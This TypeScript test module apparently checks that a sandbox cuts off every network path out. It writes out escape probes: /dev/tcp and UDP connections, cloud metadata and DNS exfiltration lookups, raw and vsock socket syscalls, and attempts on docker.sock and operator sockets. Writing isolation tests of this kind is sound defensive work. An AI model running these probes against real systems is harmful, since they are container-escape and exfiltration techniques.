import { type Escape, syscall } from './escape.ts';

const READS = `perl -e 'while (<STDIN>) { print }'`;

function connectTcp(host: string, port: number): string {
  return `timeout 2 bash -c 'exec 3<>/dev/tcp/${host}/${port} && echo CONNECTED && head -c 7 <&3'`;
}

function connectUnix(path: string): string {
  return `perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0) or die; connect(S, pack_sockaddr_un(${path})) or die "refused: $!\\n"; print scalar <S>'`;
}

function sendUdp(address: string, port: number): string {
  return `perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); print defined(send(S, "x", 0, pack_sockaddr_in(${port}, inet_aton("${address}")))) ? "ESCAPED\\n" : "refused: $!\\n"'`;
}

/** Every way out that is not the gateway's own sockets. */
export const NETWORK_ESCAPES: readonly Escape[] = [
  {
    id: 'JA-1',
    why: 'a server on the host’s loopback is not on this loopback',
    script: ({ tcpPort }) => `${connectTcp('127.0.0.1', tcpPort)}; true`,
    outside: true,
  },
  {
    id: 'JA-1',
    why: 'no TCP to the world, by number',
    script: () =>
      `${connectTcp('192.0.2.1', 443)} | grep CONNECTED && echo ESCAPED; ip route get 192.0.2.1 2>/dev/null | grep -q via && echo ESCAPED; test "$(wc -l < /proc/net/route)" -gt 1 && echo ESCAPED`,
  },
  {
    id: 'JA-1',
    why: 'no metadata service',
    script: () => `${connectTcp('169.254.169.254', 80)} | grep CONNECTED && echo ESCAPED`,
  },
  { id: 'JA-1', why: 'no UDP to the world', script: () => sendUdp('192.0.2.1', 53), outside: true },
  {
    id: 'JA-1',
    why: 'no UDP to a link-local address',
    script: () => sendUdp('169.254.169.254', 53),
    outside: true,
  },
  {
    id: 'JA-1',
    why: 'a name cannot carry data out: there is no resolver to ask',
    script: () =>
      `test -s /etc/resolv.conf && echo ESCAPED; getent hosts exfiltrated-data.example.com && echo ESCAPED; ${sendUdp('8.8.8.8', 53)}`,
  },
  {
    id: 'JA-1',
    why: 'no ICMP, by ping sockets or raw ones',
    script: () =>
      `perl -MSocket -e 'for my $type (SOCK_DGRAM, SOCK_RAW) { next unless socket(S, PF_INET, $type, 1); print "ESCAPED\\n" if defined send(S, "\\x08\\0\\xf7\\xff\\0\\0\\0\\0", 0, pack_sockaddr_in(0, inet_aton("192.0.2.1"))) }'`,
  },
  { id: 'JA-1', why: 'no raw socket', script: () => syscall([41, 198], '2, 3, 255'), outside: true },
  {
    id: 'JA-1',
    why: 'no raw socket with its type hidden by flags',
    script: () => syscall([41, 198], '2, 3 | 02000000, 255'),
  },
  { id: 'JA-1', why: 'no packet socket', script: () => syscall([41, 198], '17, 3, 768') },
  { id: 'JA-1', why: 'no vsock to the hypervisor', script: () => syscall([41, 198], '40, 1, 0') },
  { id: 'JA-1', why: 'no kernel crypto sockets', script: () => syscall([41, 198], '38, 5, 0') },
  {
    id: 'JA-1',
    why: 'no netlink but for routes',
    script: () => syscall([41, 198], '16, 3, 15'),
    outside: true,
  },
  {
    id: 'JA-1',
    why: 'docker.sock, D-Bus and X sockets are not there',
    script: ({ hostSocket }) =>
      `${connectUnix(`"${hostSocket}"`)}; for s in /var/run/docker.sock /run/docker.sock /run/dbus/system_bus_socket /tmp/.X11-unix /run/user; do test -e $s && echo ESCAPED; done`,
    outside: true,
  },
  {
    id: 'JA-1',
    why: 'the operator’s socket is not there',
    script: ({ gatewayHome }) => connectUnix(`"${gatewayHome}/operator.sock"`),
    outside: true,
  },
  {
    id: 'JA-1',
    why: 'a unix socket that a host process left in the workspace is masked',
    script: ({ workspace }) =>
      `${connectUnix(`"${workspace}/server.sock"`)}; ${connectUnix(`"${workspace}/node_modules/.cache/daemon.sock"`)}`,
    outside: true,
  },
  {
    id: 'JA-1',
    why: 'abstract unix sockets belong to another network',
    script: ({ abstractName }) =>
      `${connectUnix(`"\\0${abstractName}"`)}; grep -q '${abstractName}' /proc/net/unix && echo ESCAPED`,
    outside: true,
  },
  {
    id: 'JA-1',
    why: 'no interface but loopback, and none can be made',
    script: () =>
      `grep -v -e lo: -e '|' /proc/net/dev | grep : && echo ESCAPED; ip link add x type dummy && echo ESCAPED; true </dev/null | ${READS}`,
  },
];
